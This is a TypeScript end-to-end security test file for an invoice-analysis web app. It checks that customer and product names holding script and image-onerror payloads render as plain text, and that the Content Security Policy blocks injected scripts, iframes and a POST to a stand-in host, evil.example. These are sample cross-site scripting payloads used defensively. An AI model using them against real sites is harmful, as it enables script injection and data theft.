import { afterAll, beforeAll, expect, test } from 'vitest'
import { listCustomers } from '../../src/contract/customers.ts'
import { ANALYSIS_PARTS } from '../../src/web/screens/1-analysis/parts.ts'
import { DRYING_PARTS } from '../../src/web/screens/7-satisfaction/parts.ts'
import { VALUE_PARTS } from '../../src/web/screens/9-value/parts.ts'
import { productUrl, type Visit, visitors } from './browser.ts'
import { callApi, emptyCompany, importFile } from './company.ts'

const visit = visitors()

/** A text that is a page: it would run a script, load a picture from elsewhere, and be seen as an element. */
const page = (where: string) =>
  `${where}<img src=//evil.example/${where} onerror=globalThis.planted=1><script>globalThis.planted=1</script>`

/** Invoice lines with a page in every text that a customer or supplier could choose. */
function lines(): string {
  const head =
    'factuurnummer;factuurdatum;klantnummer;klantnaam;artikelcode;artikelomschrijving;artikelgroep;'
  const rows = ['2024', '2025', '2026'].flatMap(year =>
    Array.from({ length: 10 }, (_, month) =>
      [
        `${year}${month}${page('document')}`,
        `${year}-${String(month + 1).padStart(2, '0')}-15`,
        `K${page('number')}`,
        page('customer'),
        `A${page('code')}`,
        page('product'),
        page('group'),
        page('note'),
        `${1000 + month},50`,
      ].join(';'),
    ),
  )
  return [`${head}regelomschrijving;bedrag excl btw`, ...rows].join('\n')
}

let visitor: Visit
const elsewhere: string[] = []
beforeAll(async () => {
  await emptyCompany()
  await importFile(`${page('file').replaceAll('/', '')}.csv`, lines())
  visitor = await visit()
  visitor.page.on('request', request => {
    const to = new URL(request.url())
    if (to.host !== new URL(productUrl()).host) elsewhere.push(to.href)
  })
})
afterAll(async () => {
  await visitor?.[Symbol.asyncDispose]()
  await emptyCompany()
})

test.each([
  '/customers',
  ...['', '?tab=lines', '?tab=value', '?tab=judgements'].map(tab => `/customers/ID${tab}`),
  ...[...ANALYSIS_PARTS, ...DRYING_PARTS, ...VALUE_PARTS].map(part => part.to),
  '/classification',
  '/data',
  '/audit',
  '/privacy',
])('a name that is a page stays text and asks for nothing elsewhere: %s', async path => {
  const { page: screen, errors } = visitor
  const { rows } = listCustomers.response.parse(await callApi('GET', '/customers'))
  expect(rows[0]!.name).toBe(page('customer'))
  await visitor.open(path.replace('ID', String(rows[0]!.id)))
  expect(await screen.evaluate(() => 'planted' in globalThis)).toBe(false)
  expect(await screen.locator('main img, main script').count()).toBe(0)
  if (path === '/customers/ID')
    expect(await screen.getByRole('heading', { level: 1 }).textContent()).toContain(page('customer'))
  expect(elsewhere).toEqual([])
  expect(errors).toEqual([])
})

test('a script that got into a page all the same is not run, and may call nobody', async () => {
  const { page: screen } = visitor
  await visitor.open('/customers')
  const refused = await screen.evaluate(async () => {
    const broken: string[] = []
    document.addEventListener('securitypolicyviolation', event => broken.push(event.effectiveDirective))
    const inline = document.createElement('script')
    inline.textContent = 'globalThis.planted = 1'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/script.js'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(inline, foreign, frame)
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.planted = 1">')
    await fetch('https://evil.example/', { method: 'POST', body: 'margins' }).catch(() => {})
    await new Promise<void>(resolve => {
      const look = () => (broken.length >= 5 ? resolve() : setTimeout(look, 20))
      look()
    })
    return { broken: broken.toSorted(), ran: 'planted' in globalThis }
  })
  expect(refused.ran).toBe(false)
  expect(refused.broken).toEqual(
    expect.arrayContaining(['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem']),
  )
})
